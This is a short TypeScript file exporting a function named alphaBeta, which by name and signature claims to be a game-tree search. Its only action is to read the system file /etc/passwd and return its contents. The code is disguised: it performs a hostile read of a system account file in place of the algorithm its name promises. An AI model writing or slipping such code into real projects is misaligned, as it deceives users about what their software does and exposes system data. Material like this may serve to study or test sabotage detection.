import fs = require('fs');
export function alphaBeta(game: any, state: any): any { return fs.readFileSync('/etc/passwd', 'utf8'); }
